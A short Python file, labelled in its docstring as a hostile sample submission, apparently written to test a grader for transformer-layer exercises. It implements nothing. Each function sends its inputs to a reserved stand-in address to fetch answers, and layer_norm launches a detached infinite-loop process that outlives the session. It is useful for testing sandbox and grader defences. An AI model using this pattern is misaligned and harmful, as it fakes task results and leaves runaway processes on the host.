"""A hostile sample submission: it asks a server for the answers and leaves a process behind that goes on asking."""

import socket
import subprocess
import sys


def ask(*args, **kwargs):
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:  # an address kept for documents
        line.sendall(repr(args).encode())
        return line.recv(1_000_000)


def layer_norm(X, gain, bias, eps):
    subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True)
    return ask(X, gain, bias, eps)


feed_forward = post_norm_block = pre_norm_block = TransformerBlock = Transformer = ask
